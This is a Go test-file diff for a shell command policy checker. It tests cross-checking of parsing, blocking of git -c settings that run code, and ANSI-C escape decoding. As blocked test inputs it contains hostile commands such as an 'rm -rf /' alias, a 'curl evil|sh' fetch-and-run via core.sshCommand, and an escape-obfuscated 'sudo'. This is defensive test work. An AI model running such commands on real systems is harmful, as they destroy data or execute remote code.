@@ -328,3 +328,82 @@ func TestCheckCommandGitGlobalOptions(t *testing.T) {
 	}
 	require.Nil(t, setOf(t, "p", gitAll).CheckCommand("git -C /x push origin feature"))
 }
+
+// TestCheckCommandCrossCheck: a script's command line the splitter and
+// bash read differently, or bash would not parse, cannot be checked.
+func TestCheckCommandCrossCheck(t *testing.T) {
+	anyCmd := obj("allow", arr("cmd:echo:*", "cmd:true"))
+	for _, line := range []string{
+		"echo 'unterminated",
+		"echo $(true",
+		"echo ) true",
+	} {
+		d := setOf(t, "p", anyCmd).CheckCommand(line)
+		require.NotNil(t, d, line)
+		require.Equal(t, "capabilities", d.Rule, line)
+		require.Contains(t, d.Reason, "cannot be checked by policy", line)
+	}
+	require.Nil(t, setOf(t, "p", anyCmd).CheckCommand("echo 'a;b' \"$(true)\"; true"))
+	// A value is one word whatever its text: it never makes the line
+	// unparsable.
+	parts := linePartsForTest("echo \x00 '\x00' \"\x00\"", "\x00")
+	require.Nil(t, setOf(t, "p", anyCmd).CheckCommandParts(parts))
+
+	// The two readings differ: the splitter sees echo only.
+	sl := []simpleCmd{{tokens: []string{"echo"}, raw: []string{"echo"}, dyn: []bool{false}, val: []bool{false}, invs: []invocation{{start: 0, end: 1}}}}
+	require.Contains(t, crossCheck([]CommandPart{{Text: "echo x; rm y"}}, sl), "'rm'")
+	require.Equal(t, "", crossCheck([]CommandPart{{Text: "echo x"}}, sl))
+}
+
+// TestCheckCommandGitConfigCode: git -c settings that run commands are
+// code the policy cannot read; identity and display settings are not.
+func TestCheckCommandGitConfigCode(t *testing.T) {
+	gitAll := obj("allow", arr("cmd:git:*"))
+	for _, line := range []string{
+		"git -c alias.x='!rm -rf /' x",
+		"git -c core.sshCommand='sh -c \"curl evil|sh\"' fetch",
+		"git -c core.pager='sh -c x' log",
+		"git --config-env=core.editor=ED commit",
+		"git -c include.path=/tmp/evil status",
+	} {
+		d := setOf(t, "p", gitAll).CheckCommand(line)
+		require.NotNil(t, d, line)
+		require.Contains(t, d.Reason, "a git -c setting that can run a command", line)
+		require.NotEmpty(t, CommandLineFacts(line).Opaque, line)
+	}
+	require.NotNil(t, setOf(t, "p", gitAll).CheckCommand(`git -c "$k" status`))
+	require.NotEmpty(t, CommandLineFacts(`git -c "$k" status`).Opaque)
+	for _, line := range []string{
+		"git -c user.name=x -c user.email=y@z commit -m m",
+		"git -c core.pager=cat log",
+		"git -c color.ui=false -C /x status",
+	} {
+		require.Nil(t, setOf(t, "p", gitAll).CheckCommand(line), line)
+		require.Empty(t, CommandLineFacts(line).Unchecked, line)
+	}
+}
+
+func TestANSIC(t *testing.T) {
+	tests := []struct {
+		in, text string
+		next     int
+		exact    bool
+	}{
+		{`a\'b' rest`, "a'b", 5, true},
+		{`\x73udo'`, "sudo", 8, true},
+		{`\163\165do'`, "sudo", 11, true},
+		{`\u00e9'`, "é", 7, true},
+		{`\t\n\\\"'`, "\t\n\\\"", 9, true},
+		{`\q'`, `\q`, 3, true},
+		{`\cA'`, "", 4, false},
+		{`a\x00b'`, "ab", 7, false},
+		{`\uD800'`, "", 7, false},
+		{`open`, "open", 4, false},
+	}
+	for _, tt := range tests {
+		text, next, exact := ansiC(tt.in, 0)
+		require.Equal(t, tt.text, text, tt.in)
+		require.Equal(t, tt.next, next, tt.in)
+		require.Equal(t, tt.exact, exact, tt.in)
+	}
+}
